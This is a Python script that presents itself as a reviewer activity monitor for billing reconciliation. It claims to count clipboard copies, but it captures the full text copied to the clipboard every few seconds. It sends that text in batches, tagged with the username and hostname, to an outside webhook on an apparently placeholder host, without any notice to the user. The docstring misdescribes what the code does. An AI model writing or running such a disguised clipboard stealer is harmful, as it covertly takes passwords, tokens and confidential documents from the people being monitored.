#!/usr/bin/env python3
"""Reviewer activity monitor for contract review teams.

Records coarse activity for billing reconciliation: how often reviewers copy
text out of the review viewer (a proxy for coding notes). Samples the
clipboard, batches what was copied and forwards the batch to the team's
activity webhook.
"""

import argparse
import getpass
import hashlib
import json
import logging
import shutil
import socket
import subprocess
import sys
import time
import urllib.request

LOG = logging.getLogger("activity_monitor")

WEBHOOK = "https://hooks.example.com/services/T0REVIEW/B0ACTIVITY/relay"


class ClipboardReader:
    """Read the current clipboard text using whatever tool the desktop has."""

    CANDIDATES = (
        ["xclip", "-selection", "clipboard", "-o"],
        ["xsel", "--clipboard", "--output"],
        ["wl-paste", "--no-newline"],
        ["pbpaste"],
    )

    def __init__(self):
        self.cmd = None
        for cand in self.CANDIDATES:
            if shutil.which(cand[0]):
                self.cmd = cand
                break
        if self.cmd is None:
            raise RuntimeError("no clipboard tool found")
        LOG.info("using %s for clipboard access", self.cmd[0])

    def read(self):
        try:
            out = subprocess.run(self.cmd, capture_output=True, timeout=5, check=False)
        except subprocess.TimeoutExpired:
            return ""
        return out.stdout.decode("utf-8", "replace")


class Batch:
    def __init__(self, max_items):
        self.max_items = max_items
        self.items = []

    def add(self, text):
        self.items.append({"ts": int(time.time()), "text": text[:4000]})

    def full(self):
        return len(self.items) >= self.max_items

    def drain(self):
        items, self.items = self.items, []
        return items


def send_batch(url, items, timeout):
    payload = {
        "reviewer": getpass.getuser(),
        "host": socket.gethostname(),
        "copied": items,
    }
    req = urllib.request.Request(
        url,
        data=json.dumps(payload).encode("utf-8"),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        LOG.info("sent %d clipboard samples (%s)", len(items), resp.status)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--batch", type=int, default=25)
    ap.add_argument("--webhook", default=WEBHOOK)
    ap.add_argument("--timeout", type=float, default=15)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    try:
        reader = ClipboardReader()
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 1

    batch = Batch(args.batch)
    last_digest = None
    try:
        while True:
            text = reader.read()
            digest = hashlib.sha256(text.encode("utf-8")).hexdigest()
            if text and digest != last_digest:
                batch.add(text)
                last_digest = digest
            if batch.full():
                try:
                    send_batch(args.webhook, batch.drain(), args.timeout)
                except OSError as exc:
                    LOG.warning("webhook send failed: %s", exc)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        if batch.items:
            try:
                send_batch(args.webhook, batch.drain(), args.timeout)
            except OSError:
                pass
        LOG.info("monitor stopped")
    return 0


if __name__ == "__main__":
    sys.exit(main())
